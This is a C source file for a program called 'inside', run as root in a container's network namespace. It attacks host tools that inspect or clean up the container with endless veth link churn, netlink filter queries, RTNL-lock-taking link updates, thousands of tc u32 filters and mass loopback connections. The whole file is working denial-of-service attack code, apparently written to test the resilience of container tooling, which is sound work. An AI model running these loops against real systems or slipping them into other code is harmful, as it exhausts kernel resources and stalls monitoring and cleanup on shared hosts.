// What root inside a container can do to whoever looks inside, or cleans up after it. Run in its network namespace:
//
//   inside links N      N veth pairs that stay, and links that come and go for ever
//   inside queries N    N threads that ask for a filter of lo for ever; needs no privilege
//   inside settings N   N threads that set lo up again for ever, which takes the RTNL lock
//   inside filters N    N filters at the ingress of lo, in a priority of their own
//   inside sockets N    N connections through lo, two sockets each
//
// Prints a line when the attack stands. Ends with its standard input.

#include <arpa/inet.h>
#include <err.h>
#include <linux/if_link.h>
#include <linux/netlink.h>
#include <linux/pkt_cls.h>
#include <linux/pkt_sched.h>
#include <linux/rtnetlink.h>
#include <linux/veth.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

enum { LOOPBACK_INDEX = 1, ROOM = 64 * 1024 };

struct request {
  size_t length;
  char bytes[ROOM] __attribute__((aligned(4)));
};

static struct nlmsghdr *begin(struct request *request, int type, int flags, const void *header, size_t size) {
  struct nlmsghdr *message = (struct nlmsghdr *)(request->bytes + request->length);
  *message = (struct nlmsghdr){.nlmsg_len = NLMSG_LENGTH(size), .nlmsg_type = type, .nlmsg_flags = NLM_F_REQUEST | flags};
  memcpy(NLMSG_DATA(message), header, size);
  return message;
}

static struct rtattr *put(struct nlmsghdr *message, int type, const void *data, size_t size) {
  struct rtattr *attribute = (struct rtattr *)((char *)message + NLMSG_ALIGN(message->nlmsg_len));
  attribute->rta_type = type;
  attribute->rta_len = RTA_LENGTH(size);
  if (size > 0) memcpy(RTA_DATA(attribute), data, size);
  message->nlmsg_len = NLMSG_ALIGN(message->nlmsg_len) + RTA_ALIGN(attribute->rta_len);
  return attribute;
}

static void end_nest(struct nlmsghdr *message, struct rtattr *nest) {
  nest->rta_len = (char *)message + message->nlmsg_len - (char *)nest;
}

static void end(struct request *request, struct nlmsghdr *message) {
  request->length += NLMSG_ALIGN(message->nlmsg_len);
}

static int open_netlink(void) {
  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  if (fd < 0) err(1, "socket");
  return fd;
}

// Sends, and forgets what is answered.
static void run(int fd, struct request *request) {
  static __thread char answers[ROOM];
  if (send(fd, request->bytes, request->length, 0) < 0) warn("send");
  while (recv(fd, answers, sizeof answers, MSG_DONTWAIT) > 0) {
  }
  request->length = 0;
}

static void add_pair(struct request *request, const char *name, const char *peer_name) {
  struct ifinfomsg link = {.ifi_family = AF_UNSPEC};
  struct nlmsghdr *message = begin(request, RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL, &link, sizeof link);
  put(message, IFLA_IFNAME, name, strlen(name) + 1);
  struct rtattr *info = put(message, IFLA_LINKINFO, NULL, 0);
  put(message, IFLA_INFO_KIND, "veth", 5);
  struct rtattr *data = put(message, IFLA_INFO_DATA, NULL, 0);
  struct rtattr *peer = put(message, VETH_INFO_PEER, &link, sizeof link);
  put(message, IFLA_IFNAME, peer_name, strlen(peer_name) + 1);
  end_nest(message, peer);
  end_nest(message, data);
  end_nest(message, info);
  end(request, message);
}

static void delete_link(struct request *request, const char *name) {
  struct ifinfomsg link = {.ifi_family = AF_UNSPEC};
  struct nlmsghdr *message = begin(request, RTM_DELLINK, 0, &link, sizeof link);
  put(message, IFLA_IFNAME, name, strlen(name) + 1);
  end(request, message);
}

static _Noreturn void *come_and_go(void *number) {
  int fd = open_netlink();
  struct request request = {0};
  char name[IFNAMSIZ], peer[IFNAMSIZ];
  snprintf(name, sizeof name, "x%d", (int)(long)number);
  snprintf(peer, sizeof peer, "y%d", (int)(long)number);
  for (;;) {
    add_pair(&request, name, peer);
    run(fd, &request);
    delete_link(&request, name);
    run(fd, &request);
  }
}

static _Noreturn void *query(void *unused) {
  (void)unused;
  int fd = open_netlink();
  for (;;) {
    struct request request = {0};
    struct tcmsg filter = {.tcm_ifindex = LOOPBACK_INDEX, .tcm_parent = TC_H_INGRESS, .tcm_handle = 1};
    filter.tcm_info = TC_H_MAKE(770 << 16, htons(0x0800));
    end(&request, begin(&request, RTM_GETTFILTER, 0, &filter, sizeof filter));
    run(fd, &request);
  }
}

static _Noreturn void *set(void *unused) {
  (void)unused;
  int fd = open_netlink();
  for (;;) {
    struct request request = {0};
    struct ifinfomsg link = {.ifi_index = LOOPBACK_INDEX, .ifi_flags = IFF_UP, .ifi_change = IFF_UP};
    end(&request, begin(&request, RTM_NEWLINK, 0, &link, sizeof link));
    run(fd, &request);
  }
}

static struct nlmsghdr *begin_filter(struct request *request, uint32_t handle) {
  struct tcmsg filter = {.tcm_ifindex = LOOPBACK_INDEX, .tcm_parent = 0xffff0000, .tcm_handle = handle};
  filter.tcm_info = TC_H_MAKE(9 << 16, htons(0x0003));
  struct nlmsghdr *message = begin(request, RTM_NEWTFILTER, NLM_F_CREATE | NLM_F_EXCL, &filter, sizeof filter);
  put(message, TCA_KIND, "u32", 4);
  return message;
}

// In 256 buckets, or each would take longer than the one before.
static void add_filters(int count) {
  int fd = open_netlink();
  struct request request = {0};
  struct tcmsg qdisc = {.tcm_ifindex = LOOPBACK_INDEX, .tcm_parent = TC_H_INGRESS, .tcm_handle = 0xffff0000};
  struct nlmsghdr *message = begin(&request, RTM_NEWQDISC, NLM_F_CREATE, &qdisc, sizeof qdisc);
  put(message, TCA_KIND, "ingress", 8);
  end(&request, message);
  message = begin_filter(&request, 0x12300000);
  struct rtattr *options = put(message, TCA_OPTIONS, NULL, 0);
  const uint32_t divisor = 256, class = 1;
  put(message, TCA_U32_DIVISOR, &divisor, sizeof divisor);
  end_nest(message, options);
  end(&request, message);
  for (uint32_t i = 0; i < (uint32_t)count; i++) {
    const uint32_t bucket = 0x12300000 | i % divisor << 12;
    message = begin_filter(&request, bucket | (i / divisor + 1));
    options = put(message, TCA_OPTIONS, NULL, 0);
    struct {
      struct tc_u32_sel selector;
      struct tc_u32_key key;
    } match = {{.flags = TC_U32_TERMINAL, .nkeys = 1}, {.val = htonl(i), .mask = 0xffffffff, .off = 12}};
    put(message, TCA_U32_HASH, &bucket, sizeof bucket);
    put(message, TCA_U32_CLASSID, &class, sizeof class);
    put(message, TCA_U32_SEL, &match, sizeof match);
    end_nest(message, options);
    end(&request, message);
    if (request.length > ROOM / 2) run(fd, &request);
  }
  run(fd, &request);
}

static _Noreturn void wait_for_end(void) {
  char byte;
  while (read(STDIN_FILENO, &byte, 1) > 0) {
  }
  exit(0);
}

static int listen_somewhere(struct sockaddr_in *bound) {
  socklen_t size = sizeof *bound;
  *bound = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (bind(fd, (struct sockaddr *)bound, size) < 0 || listen(fd, 64) < 0) err(1, "listen");
  if (getsockname(fd, (struct sockaddr *)bound, &size) < 0) err(1, "getsockname");
  return fd;
}

static void connect_some(int count) {
  struct rlimit most = {2 * count + 64, 2 * count + 64};
  if (setrlimit(RLIMIT_NOFILE, &most) < 0) err(1, "setrlimit");
  struct sockaddr_in bound;
  for (int i = 0, listener = -1; i < count; i++) {
    // A container has few ephemeral ports: so many connections have the same destination.
    if (i % 400 == 0) listener = listen_somewhere(&bound);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&bound, sizeof bound) < 0) err(1, "connect");
    if (accept(listener, NULL, NULL) < 0) err(1, "accept");
  }
}

// In processes of 4,000 connections, which may have so many descriptors.
static void connect_all(int count) {
  enum { CONNECTIONS = 4000 };
  for (int left = count; left > 0; left -= CONNECTIONS) {
    int done[2];
    if (pipe(done) < 0) err(1, "pipe");
    if (fork() == 0) {
      connect_some(left < CONNECTIONS ? left : CONNECTIONS);
      if (write(done[1], "", 1) != 1) err(1, "write");
      wait_for_end();
    }
    close(done[1]);
    char byte;
    if (read(done[0], &byte, 1) != 1) errx(1, "a process of it has ended");
    close(done[0]);
  }
}

static void start(int count, void *(*body)(void *)) {
  for (long i = 0; i < count; i++) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, body, (void *)i)) errx(1, "pthread_create");
  }
}

static void keep_links(int count) {
  int fd = open_netlink();
  struct request request = {0};
  for (int i = 0; i < count; i++) {
    char name[IFNAMSIZ], peer[IFNAMSIZ];
    snprintf(name, sizeof name, "l%d", i);
    snprintf(peer, sizeof peer, "m%d", i);
    add_pair(&request, name, peer);
    if (request.length > ROOM / 2) run(fd, &request);
  }
  run(fd, &request);
  start(4, come_and_go);
}

int main(int count, char **arguments) {
  if (count != 3) errx(2, "usage: inside links|queries|settings|filters|sockets N");
  const char *what = arguments[1];
  const int number = atoi(arguments[2]);
  if (!strcmp(what, "links")) keep_links(number);
  else if (!strcmp(what, "queries")) start(number, query);
  else if (!strcmp(what, "settings")) start(number, set);
  else if (!strcmp(what, "filters")) add_filters(number);
  else if (!strcmp(what, "sockets")) connect_all(number);
  else errx(2, "unknown attack '%s'", what);
  puts("ready");
  fflush(stdout);
  wait_for_end();
}
